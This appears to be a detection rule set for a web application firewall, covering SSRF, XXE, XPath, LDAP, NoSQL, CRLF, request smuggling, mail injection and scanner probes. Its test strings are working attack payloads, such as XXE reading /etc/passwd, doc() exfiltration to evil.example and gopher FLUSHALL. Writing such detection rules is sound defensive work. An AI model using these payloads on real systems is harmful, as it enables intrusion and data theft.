# SSRF, XXE, XPath, LDAP, NoSQL, CRLF/header injection, request smuggling, mail injection, scanners
# (ids 300006000-300006999).

id: 300006001
name: SSRF: URL to a loopback, private or link-local address
type: Server-Side Request Forgery (SSRF)
accuracy: medium
risk: high
targets: @values, param-name
unless: binary
literal: ://
regex: \b(?:https?|gopher|dict|ftp|ftps|ldap|ldaps|tftp|sftp|jar|netdoc|smb|rtsp|ws|wss)://(?:[^/@\s]*@)?(?:localhost(?:[:/?#\\]|$)|127(?:\.\d{1,3}){1,3}\b|0(?:\.0){0,3}(?:[:/]|$)|0x7f[0-9a-f]*|2130706433\b|017700000001\b|0177\.|\[(?:0*:)*:?0*1?\]|\[::(?:ffff:)?[\d.]*\]|\[0:0:0:0:0:(?:ffff:)?[\d.:]*\]|169\.254\.\d{1,3}\.\d{1,3}|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|100\.100\.100\.200|metadata\.google\.internal|metadata\b|instance-data\b|(?:[\w-]+\.)*(?:localtest\.me|nip\.io|xip\.io|sslip\.io|traefik\.me|rbndr\.us|1u\.ms|lvh\.me|vcap\.me|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.\w+)\b|[\w.-]*\.internal\b|[\w-]*kubernetes\.default)
test: http://169.254.169.254/latest/meta-data/
test: http://127.0.0.1:8080/admin
test: gopher://localhost:6379/_FLUSHALL
# DNS rebinding services answer with the address the name spells, or with loopback.
test: http://7f000001.c0a80001.rbndr.us/
test: http://make-127-0-0-1-rebind.1u.ms/
pass: https://localhost.ptlogin2.qq.com:4301/pt_get_uins
pass: https://www.example.com/

id: 300006002
name: SSRF: dangerous URL schemes
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, param-name
unless: binary
literal: gopher:
literal: dict:
literal: ldap:
literal: tftp:
literal: jar:
literal: netdoc:
literal: sftp:
regex: \b(?:gopher|dict|tftp|netdoc)://|\bjar:(?:https?|file|ftp):|^\s*ldaps?://|\bsftp://[^/]*(?:127\.|localhost)
test: dict://127.0.0.1:11211/stat
test: jar:http://evil.example/x.jar!/
pass: a dictionary: words

id: 300006003
name: SSRF: cloud metadata endpoints
type: Server-Side Request Forgery (SSRF)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: 169.254.169.254
literal: metadata.google.internal
literal: 100.100.100.200
literal: fd00:ec2::254
literal: latest/meta-data
literal: computemetadata
literal: metadata/instance
literal: 169.254.170.2
literal: 0xa9fea9fe
literal: 2852039166
regex: 169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254|latest/(?:meta-data|user-data|dynamic)(?:[/?#&\s"']|$)|computemetadata/v1|metadata/instance\?|169\.254\.170\.2|0xa9fea9fe|2852039166
test: http://[fd00:ec2::254]/latest/meta-data/
test: /latest/meta-data
pass: latest data
# A page whose name starts with the metadata path's words is another page.
pass: https://docs.example.com/latest/meta-data-guide

id: 300006004
name: XXE: external entity declaration
type: XML External Entities (XXE)
accuracy: high
risk: high
systems: XML
targets: @values, header, body, xml
unless: binary
literal: <!entity
literal: <!doctype
literal: <!element
literal: <!attlist
literal: utf-7
regex: <\?xml[^>]{0,100}encoding\s*=\s*["']utf-7|<!entity\s+(?:%\s*)?[\w.-]+\s+(?:system|public)\b|<!entity\s+%|<!doctype\s+[\w:.-]+\s+(?:system|public)\s+["']|<!doctype\s+[\w:.-]+\s*\[[\s\S]*<!entity|<!entity\s+[\w.-]+\s+["'][\s\S]*&[\w.-]+;|<!(?:element|attlist)\s+[\w:.-]+\s[\s\S]*<!entity
test: <!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
test: <!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">
pass: <!DOCTYPE html><html></html>

id: 300006005
name: XXE: XInclude and schema inclusion
type: XML External Entities (XXE)
accuracy: high
risk: high
systems: XML
targets: @values, header, body, xml
unless: binary
literal: xi:include
literal: xinclude
literal: xs:include
literal: xs:import
literal: xsl:include
literal: xsl:import
literal: schemalocation
literal: document(
literal: xsl:
regex: <\w*:?include\b[^>]*\bhref\s*=|\bxmlns:\w+\s*=\s*["']http://www\.w3\.org/2001/xinclude|<xs:(?:include|import|redefine)\b[^>]*schemalocation\s*=\s*["'](?:https?|file|ftp)|<xsl:(?:include|import)\b[^>]*href|\bdocument\s*\(\s*['"](?:https?|file|ftp|/)|<xsl:value-of\s+select\s*=\s*["']system-property|\bxsl:stylesheet\b[\s\S]*(?:php:function|java:|rt:exec)
test: <xi:include href="file:///etc/passwd" parse="text"/>
test: <xs:include schemaLocation="http://evil.example/x.xsd"/>
pass: <include>yes</include>

id: 300006006
name: XPath injection
type: XPath Injection
accuracy: medium
risk: medium
targets: @values, header, url
unless: binary
literal: count(
literal: name(
literal: string-length
literal: substring(
literal: child::
literal: //
literal: text()
literal: position()
literal: ancestor::
literal: descendant::
literal: contains(
# The spaced call and every axis need their own literal: the prefilter sees `count (` and
# `descendant-or-self::` in none of the literals above. `parent::` and `self::` are also PHP's
# scope operators (`parent::__construct()`), so they count only before a node test.
literal: count (
literal: name (
literal: -or-self::
literal: -sibling::
literal: parent::
literal: following::
literal: preceding::
literal: self::
literal: attribute::
literal: local-name(
regex: ['"]\s*(?:or|and)\s+(?:count|name|string-length|substring|contains|starts-with|position|last)\s*\(|\bcount\s*\(\s*/|\bname\s*\(\s*/|\b(?:string-length|local-name)\s*\(\s*(?:/|\.\.?/|[\w*@]+\s*[/\[(])|\b(?:child|ancestor|descendant|following|preceding)(?:-or-self|-sibling)?::|\b(?:parent|self|attribute)::(?:\*|node\s*\(|text\s*\(|\w+\s*\[)|['"]\s*\]\s*/\s*/|\|\s*//\*|/\*\[\d+\]|//\w+\s*\[\s*\w+\s*=|\btext\s*\(\s*\)\s*=\s*['"]
test: ' or count(/*)=1 or 'a'='b
test: x' or name(//users/child::node()[1])='a
test: count ( / * )
test: /descendant-or-self::node()
test: string-length(//user[1]/password)
test: ']/parent::*
test: /following-sibling::item[1]
pass: see https://example.com//path
pass: parent::__construct($config);
pass: word count (approx.) 1200
pass: self::$instance = new static();

id: 300006471
name: XPath injection: external document fetch, node-set union break-out, predicate functions
# An injected XPath expression reads another document through `doc()` (a URL or a `concat()` that
# carries data out), closes the application's predicate and adds a node set with `|`, or puts a
# node-set function inside a predicate (`//*[contains(name(),'pass')]`). A protocol-relative URL
# after a `|` (`a.js|//cdn.example.com/b.js`) has a dotted host name, which no XPath step has.
type: XPath Injection
accuracy: medium
risk: medium
targets: @values, header, url
unless: binary
literal: doc(
literal: doc (
literal: doc-available
literal: ']|
literal: '] |
literal: "]|
literal: "] |
literal: |//
literal: | //
literal: [contains(
literal: [starts-with(
literal: [substring
literal: [name(
literal: [local-name(
literal: [string-length(
literal: [count(
literal: [position(
literal: [last(
literal: [text(
literal: [not(
regex: \bdoc(?:-available)?\s*\(\s*(?:['"]\s*(?:https?|ftp|file|gopher|jar|data):|concat\s*\()|['"]\s*\]\s*\|\s*[/\w*@.(]|\|\s*//\s*(?:\*|@|\w+\s*(?:[\[/|]|$))|\[\s*(?:not\s*\(\s*)?(?:(?:contains|starts-with|substring(?:-before|-after)?)\s*\(\s*(?:['"@.*/]|(?:name|local-name|text)\s*\(|\w+\s*,)|(?:name|local-name|string-length|count)\s*\(\s*(?:\)|[/.@*]|\w+\s*\))\s*[=<>!)]|(?:position|last|text)\s*\(\s*\)\s*[=<>!\]])
test: doc('http://evil.example/x.xml')
test: doc(concat('http://evil.example/?', name(/*)))
test: x'] | //user/* | a['
test: //*[contains(name(),'pass')]
test: //user[string-length(password)>5]
test: /users/user[position()=1]
test: //user[not(starts-with(@name,'a'))]
pass: https://cdn.example.com/a.js|//cdn.example.com/b.js
pass: see [text(1)](https://example.com)
pass: items["a"]|| default
pass: open the doc (PDF, 2 pages)

id: 300006007
name: LDAP injection: filter manipulation
type: LDAP Injection
accuracy: medium
risk: high
targets: @values, header, url, param-name
unless: binary
literal: )&(
literal: )|(
literal: )!(
literal: ) (
literal: )\t(
literal: )\n(
literal: )\r\n(
literal: )(
literal: *)
literal: (|
literal: (&
literal: (!
literal: objectclass
literal: \\2a
literal: \\28
literal: \\29
literal: \\00
literal: :=
# A wildcard before an empty filter and an operator (`*()|&`) ends the filter on any attribute.
literal: *()
regex: \b[\w-]+(?::dn)?:\d+(?:\.\d+){2,}:=|\)\s*\(\s*[|&!]|\)\s*[&|!]?\s*\(\s*[\w.-]+\s*[~<>]?=|\*\s*\)\s*\(|\(\s*[|&!]\s*\(\s*[\w.-]+\s*[~<>]?=|[|&!]\s*\(\s*[\w.-]+\s*=\s*\*\s*\)|\(\s*objectclass\s*=|\)\s*\(\s*(?:cn|uid|mail|userpassword|sn|ou|dc|givenname|samaccountname|objectclass|memberof|description|telephonenumber|homedirectory)\s*[~<>]?=|^\s*\*\s*\)\s*[(|&]|^\*\)|\\(?:2a|28|29|00)[\s\S]*\\(?:2a|28|29|00)|^[\w.@-]*\*\)\s*\(|\*\s*\(\s*\)\s*[|&!]
test: *()|&'
test: value)(gidNumber<=100
test: val)&(cn=admin
test: eb9adbd87d)!(sn=*
test: test) ( & 
test: x)\t(\t|
test: x)\n(|(uid=*
test: *)(uid=*))(|(uid=*
test: admin)(&(password=*)
test: *)(objectClass=*
test: userPassword:2.5.13.18:=x
test: /directory/*)(uid=*))(|(uid=*
pass: smile :-) (really)
pass: /files/Report (1) (2).pdf
pass: /wiki/Mercury_(planet)_(disambiguation)

id: 300006008
name: NoSQL injection: MongoDB query operators
type: NoSQL Injection
accuracy: high
risk: high
systems: MongoDB
targets: @values, header, url, param-name
unless: binary
literal: $
regex: (?:^|[\[{,"'\s(])\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|function|accumulator|lookup|size|type|mod|all|text|jsonschema|options|where|group|match|project|merge|out|unionwith|graphlookup)\b\s*(?:["'\]]|:|=|$)
test: {"username": {"$ne": null}}
test: [$gt]
test: ', $or: [ {}, { 'a':'a
pass: price $10

id: 300006009
name: NoSQL injection: JavaScript in MongoDB queries
type: NoSQL Injection
accuracy: high
risk: high
systems: MongoDB
targets: @values, header, url, param-name
unless: binary
literal: db.
literal: this.
literal: sleep(
literal: mapreduce
literal: return
literal: tojson
literal: objectid
literal: isodate
literal: while
regex: \bdo\s*\{[\s\S]{0,200}\}\s*while\s*\(|\bwhile\s*\(\s*(?:true|1|\w+\s*-\s*\w+\s*<)|\bdb\s*\.\s*(?:\w+\s*\.\s*)?(?:find|findone|insert|update|remove|drop|getcollection|getcollectionnames|eval|runcommand|aggregate|count|distinct|mapreduce|getsiblingdb|adminCommand|createuser|dropdatabase)\w*\s*\(|\bthis\s*\.\s*\w+\s*(?:==|!=|\.match\s*\(|\.constructor|\.length\s*[<>=])|['"]\s*;\s*(?:sleep\s*\(\s*\d|return\s+(?:true|1|this)|while\s*\(|var\s+\w+\s*=)|\bmapreduce\b|\btojson\s*\(\s*this|;\s*return\s+['"]?\w*['"]?\s*==\s*['"]|\b(?:objectid|isodate)\s*\(\s*['"][\s\S]*\)\s*(?:\}|,)[\s\S]*\$
test: db.users.find()
test: '; return true; var x='
test: this.password.match(/.*/)
pass: return to sender

id: 300006010
name: CRLF injection: header injected after a line break
type: HTTP Response Splitting
accuracy: high
risk: high
targets: @values, url, header, param-name
unless: binary
literal: \n
literal: \r
literal: %0a
literal: %0d
literal: %e5%98%8a
literal: \\u560a
literal: set-cookie
literal: location
regex: ^(?:[^\r\n:]|:[^\s\r\n])*[\r\n]+\s*(?:set-cookie|location|content-(?:type|length|disposition|security-policy|encoding)|x-[\w-]+|refresh|access-control-[\w-]+|http/\d|transfer-encoding|link|host|cookie|status|x-xss-protection|cache-control|connection|server|etag|last-modified|expires|vary|upgrade|authorization|www-authenticate)\s*:|(?:%0[ad]|%e5%98%8[ad]|\xe5\x98[\x8a\x8d]|\\u560[ad]|\\r|\\n)+\s*(?:set-cookie|location|content-(?:type|length|disposition|security-policy|encoding)|x-[\w-]+|refresh|access-control-[\w-]+|http/\d|transfer-encoding|link|host|cookie|status|x-xss-protection|cache-control|connection|server|etag|last-modified|expires|vary|upgrade|authorization|www-authenticate)\s*:|^(?:[^\r\n:<>]|:[^\s\r\n])*[\r\n]+\s*(?:<\s*(?:html|script|body|svg|img)|http/1\.[01]\s+\d{3})|(?:%0[ad])+\s*(?:<\s*(?:html|script|body|svg|img)|http/1\.[01]\s+\d{3})
test: x\r\nSet-Cookie: a=b
test: /%0d%0aLocation: http://evil.example
pass: content-length: 94\r\ncontent-type: application/json; charset=utf-8\r\n
pass: line one\nline two
pass: <!DOCTYPE html>\n<html lang='en' class=''>\n<head>\n

id: 300006601
name: CRLF injection: a forwarding or client-address header after a line break
# Proxies and applications take the client's address and the route a request took from
# `Via`, `Forwarded`, `X-Forwarded-*`, `X-Real-IP` and their kin; a value written back into a
# request or a response header with a line break in it sets them (an address an allow list
# trusts, a host a password-reset link is built from). Any line of the value counts: the names
# are not words a line of text begins with and follows by a colon. (A folded header line, white
# space then a colon, is left out: CSS posted with a page, `\n  :root {`, has that shape.)
type: HTTP Response Splitting
accuracy: high
risk: high
targets: @values, param-name
unless: binary
literal: \n
literal: \r
regex: [\r\n][ \t]*(?:via|forwarded|x-forwarded-[\w-]+|x-real-ip|true-client-ip|x-client-ip|client-ip|x-remote-(?:ip|addr)|remote-(?:ip|addr)|x-originating-ip|originating-ip|x-host|proxy-[\w-]+|x-original-url|x-rewrite-url)[ \t]*:
test: b\r\nVia: 1.1 evil
test: en\r\nX-Forwarded-For: 127.0.0.1
test: a\nremote-addr: 10.0.0.1
pass: transport: http\nset:\n  rStr1: randomLowercase(8)
pass: path: /\n      follow_redirects: false\n      headers:\n        Host: '{{rStr1}}.com'
pass: Shipped via UPS: 2 days\nthanks
pass: ,"\n        :root {\n          --background: #fff;

id: 300006602
name: CRLF injection: an encoded line break in a header value
# A client writes a header value as text on one line; a `%0d`/`%0a` in one, followed by a field
# name and its colon, is there for the application or a proxy that decodes the value and writes
# it into a response header or a log line (a second header, a forged log entry). Absolute URLs
# are left out: a `Referer` carries the previous page's query as it was, text with its line
# breaks encoded included.
type: HTTP Response Splitting
accuracy: high
risk: high
targets: header
unless: binary, url
literal: %0a
literal: %0d
literal: \n
literal: \r
regex: (?:%0[ad]|[\r\n])+[ \t]*[\w-]+[ \t]*:
test: en-US%0d%0aX-Injected: 1
test: 10.0.0.1%0aX-Forwarded-Host: evil.example
test: Mozilla/5.0%0D%0ASet-Cookie:%20a=b
pass: https://fanyi.baidu.com/translate?aldtype=16047&query=%E6%9C%89%0A%E4%B8%A4
pass: zh-CN,zh;q=0.9,en-US;q=0.8,en;q=0.7
pass: foo%0d%0a() { :; }just a test

id: 300006603
name: CRLF injection: a line break written as an HTML character reference in a header value
# A client writes a header value as text on one line and has no reason to escape a line break
# in it as markup; `&#10;`, `&#x0d;` are there for an application that decodes references
# (an XML or HTML template, a SOAP envelope built from the header) before it writes the value
# into a response header or a log line, past a filter that looks only for CR and LF bytes.
type: HTTP Response Splitting
accuracy: high
risk: medium
targets: header
unless: binary
literal: &#
regex: &#(?:0*1[03]|x0*[ad])(?:;|[^\dA-Fa-f]|$)
test: abc&#10;def
test: a&#x0D;&#x0A;b
test: en-US&#013;
pass: Tom &amp; Jerry &#169; 2024
pass: &#x1F600; smile
pass: q=&#101;

id: 300006011
name: HTTP request smuggling: request embedded in a request
type: HTTP Request Smuggling Attack
accuracy: high
risk: high
targets: @values, header, body, url
unless: binary
literal: http/
literal: transfer-encoding
literal: content-length
regex: (?:get|post|put|delete|head|options|patch|trace|connect|propfind)\s+(?:/|https?://)\S*\s+http/\d(?:\.\d)?(?:\s|$)|^(?:[^\r\n:]|:[^\s\r\n])*[\r\n]+\s*(?:transfer-encoding\s*:|content-length\s*:\s*\d)|^\s*(?:\w+\s*,\s*)*chunked\s*,|\bchunked\s*[\x00-\x08\x0b\x0c\x0e-\x1f]|x?chunked\w
test: aaa\nGET / HTTP/1.1
test: GET http://www.foo.bar HTTP/1.2
test: barGET /a.html HTTP/1.1\r\nHost: foo.com
test: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n
test: x\r\nTransfer-Encoding: chunked
pass: access-control-expose-headers: x-server-cost\r\ncontent-length: 247\r\ncontent-type: application/json\r\n
pass: see HTTP/1.1 RFC

id: 300006012
name: Mail command injection: SMTP/IMAP/POP3 commands after a line break
type: Mail Command Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: \n
literal: \r
literal: %0a
literal: %0d
regex: (?:[\r\n]|%0[ad])+\s*(?:(?:rcpt\s+to|mail\s+from|helo|ehlo|data|quit|rset|vrfy|expn|noop|auth\s+\w+|starttls|turn)\b|(?:bcc|cc|to|from|subject|reply-to|sender|return-path|mime-version|content-transfer-encoding|x-mailer)\s*:|(?:[a-z]{0,2}\d{1,5}|\*)\s+(?:capability|login|logout|select|examine|fetch|store|copy|search|uid|list|lsub|status|append|create|delete|rename|subscribe|noop|authenticate|starttls|check|close|expunge)\b|(?:user|pass|stat|retr|dele|top|uidl|apop)\s+\S|[a-z]{1,4}\d{0,5}\s+(?:capability|starttls|expunge|logout|noop|check|close)\s*(?:$|[\r\n])|[a-z]\w{0,8}\s+uid\s+(?:fetch|store|copy|search)\b)
test: \r\nRCPT TO: <x@evil.example>
test: x@example.com\nBcc: victim@example.com
test: \r\nA001 LOGIN user pass
test: INBOX\r\nX CAPABILITY
test: \r\ntag UID FETCH 1:* (BODY[])
pass: first line\nthe capability of the team
pass: first line\nnear the close of day
pass: regards\nBob
pass: fetch req url: https://y.tencentmusic.com/openapi/musician/queryConfiguration \n           method: POST

id: 300006013
name: Vulnerability scanner: user agent
type: Vulnerability Scan
accuracy: high
risk: low
targets: header
unless: url, binary
literal: sqlmap
literal: nikto
literal: nmap
literal: acunetix
literal: nessus
literal: openvas
literal: w3af
literal: dirbuster
literal: gobuster
literal: wfuzz
literal: masscan
literal: zgrab
literal: nuclei
literal: havij
literal: netsparker
literal: appscan
literal: webinspect
literal: jaeles
literal: ffuf
literal: feroxbuster
literal: whatweb
literal: wpscan
literal: joomscan
literal: commix
literal: xsser
literal: burp
literal: arachni
literal: skipfish
literal: vega
literal: paros
literal: zap
literal: qualys
literal: fimap
literal: dirb
literal: brutus
literal: hydra
literal: morfeus
literal: zmeu
literal: grabber
literal: pangolin
literal: bsqlbf
literal: sqlninja
literal: jbrofuzz
literal: webshag
literal: wapiti
literal: detectify
literal: interactsh
literal: oast.
literal: oastify
literal: dnslog
literal: ceye.io
literal: winrm
regex: \b(?:sqlmap|nikto|nmap\s+scripting|nmap|acunetix|nessus|openvas\w*|w3af|dirbuster|gobuster|wfuzz|masscan|zgrab|nuclei|havij|netsparker|appscan|webinspect|jaeles|ffuf|feroxbuster|whatweb|wpscan|joomscan|commix|xsser|burp(?:suite|collaborator)?|arachni|skipfish|vega/|paros|owasp\s*zap|zap/|qualys|fimap|dirb\b|brutus|hydra|morfeus|zmeu|grabber|pangolin|bsqlbf|sqlninja|jbrofuzz|webshag|wapiti|detectify|interactsh|oastify|dnslog|ceye\.io)|\.oast\.(?:me|fun|live|site|online|pro)\b|microsoft winrm client
test: sqlmap/1.7.2#stable (https://sqlmap.org)
test: Mozilla/5.00 (Nikto/2.1.6)
pass: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0

id: 300006014
name: Out-of-band interaction domains
type: Vulnerability Scan
accuracy: high
risk: medium
targets: @all
unless: binary
literal: oast
literal: burpcollaborator
literal: interact.sh
literal: dnslog
literal: ceye.io
literal: requestbin
literal: pipedream
literal: canarytokens
literal: xss.ht
literal: bxss
regex: \b[\w-]+\.(?:oast\.(?:me|fun|live|site|online|pro)|oastify\.com|burpcollaborator\.net|interact\.sh|dnslog\.cn|ceye\.io|requestbin\.net|canarytokens\.com|xss\.ht)\b|\bbxss\.me\b|\bpipedream\.net\b
test: x.c6roi3.oast.fun
pass: toast.me is fine

id: 300006015
name: Vulnerability scan: probe for admin and debug interfaces
type: Predictable Resource Location
accuracy: medium
risk: low
targets: url
unless: binary
literal: phpmyadmin
literal: /cgi-bin/
literal: /actuator
literal: /server-status
literal: /.well-known/
literal: /console
literal: /manager/html
literal: /jmx-console
literal: /invoker/
literal: /solr/admin
literal: /_ignition
literal: /telescope
literal: /debug/
literal: phpinfo.php
literal: /xmlrpc.php
literal: /wls-wsat
literal: /hnap1
literal: /boaform
literal: /vendor/phpunit
regex: /phpmyadmin|/cgi-bin/[\w.-]*\.(?:sh|bat|exe|cmd)\b|/actuator(?:/|$)(?:env|heapdump|jolokia|gateway|mappings|trace|logfile)?|/server-status\b|/manager/html\b|/jmx-console\b|/invoker/(?:jmx|ejb)|/solr/admin/|/_ignition/|/debug/(?:pprof|vars|default)|/phpinfo\.php|/wls-wsat/|/hnap1\b|/boaform/|/vendor/phpunit/|/console/(?:login|css|j_security)
test: /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
test: /cgi-bin/test.sh
pass: /products/console-tables
pass: /cgi-bin/r.cgi

id: 300006016
name: GraphQL introspection query
type: Information Leakage
accuracy: high
risk: low
targets: @values, header, url, param-name
unless: binary
literal: __schema
literal: introspectionquery
literal: __type
regex: \b__schema\s*\{|\bintrospectionquery\b|\b__type\s*\(\s*name\s*:
test: {"query":"{__schema{types{name}}}"}
test: query IntrospectionQuery { x }
pass: schema version 2

id: 300006017
name: Session fixation: session id passed as a parameter
type: Session Hijacking
accuracy: medium
risk: medium
# Not on cookie names: a session cookie is where a session id belongs.
targets: param-name, -cookie-name
unless: binary
literal: sessionid
literal: sessid
literal: aspsessionid
literal: sid
literal: session
literal: cfid
literal: cftoken
regex: ^(?:jsessionid|phpsessid|aspsessionid[a-z]{0,8}|asp\.net_sessionid|session-id|cfid|cftoken|cfsid|jsessionidsso|connect\.sid|laravel_session|ci_session|phpsession|weblogicsession|jservsession|jwsession)$
test: jsessionid
test: PHPSESSID
test: ASPSESSIONIDQCRCDABT
test: CFID
test: cftoken
test: WebLogicSession
test: jwsession
test: session-id
pass: sessionid_hint
pass: sid

id: 300006018
name: Session fixation: cookie set from a value (script, meta tag, header)
type: Session Hijacking
accuracy: high
risk: medium
targets: @values, header, url, param-name
unless: binary
literal: cookie
regex: \bdocument\.cookie\s*=|\.cookie\s*=\s*[^=;\s][^;]*;\s*(?:expires|domain|path|max-age)\s*=|<\s*meta\b[^>]*http-equiv\s*=\s*['"]?set-cookie|(?:^|[\r\n]|%0[ad])\s*set-cookie\s*:|\.setcookie\s*\(
test: <script>document.cookie="sessionid=1234;"</script>
test: <meta http-equiv="Set-Cookie" content="sessionid=1234">
test: w.cookie="sid=1;domain=.example.com"
pass: please enable cookies in your browser
pass: We use cookies; expires after 30 days
pass: if (doc.cookie == "a; path=/")

id: 300006019
name: HTTP parameter pollution: characters after a parameter's array brackets
# PHP, Rails and qs read `foo[1]a` as `foo[1]` and drop the tail, so one name reaches the
# application under another (two `foo[1]` from differently named fields), past a check keyed on
# the name as sent. Real forms end a bracketed name at its last bracket, or go on with `.` (the
# ASP.NET model binder's `items[0].Name`).
type: HTTP Parser Attack
accuracy: high
risk: medium
targets: param-name
unless: binary
literal: ]
regex: ^[\w-]+(?:\[[\w -]*\])+[^\[\].\s]
test: foo[1]a
test: foo[1]a[2]
test: user[role]x
pass: foo[1]
pass: filter[price][gte]
pass: items[0].Name
pass: tags[]

id: 300006401
name: Information disclosure: unauthenticated configuration and bootstrap endpoints of common products
type: Information Leakage
accuracy: high
risk: medium
# Endpoints that hand out a product's configuration, credentials or user list without a login in
# the versions scanners look for: Joomla's web services `config/application` and `users`, MinIO's
# cluster bootstrap `verify` (environment and root credentials), Nacos's user list, Hikvision's
# `configurationFile`, Jolokia's MBean `list`, Alibaba Druid's monitor pages. A browser or a
# product's own client reaches them only with the administrator's session, which these probes
# do not have; the health and status endpoints next to them are left alone.
targets: url
unless: binary
literal: /api/index.php/v1/
literal: /minio/bootstrap/
literal: /nacos/v1/auth/users
literal: /system/configurationfile
literal: /jolokia/list
literal: /druid/
regex: /api/index\.php/v1/(?:config/application|users)\b|/minio/bootstrap/v\d+/verify\b|/nacos/v1/auth/users\b|/system/configurationfile\b|/jolokia/list\b|/druid/(?:index|websession|datasource|sql|weburi|spring)\.html?\b
test: /api/index.php/v1/config/application
test: /api/index.php/v1/users
test: /minio/bootstrap/v1/verify
test: /nacos/v1/auth/users
test: /System/configurationFile
test: /druid/index.html
pass: /api/index.php/v1/content/articles
pass: /minio/health/live
pass: /druid/coordinator/v1/datasources
pass: /jolokia/read/java.lang:type=Memory
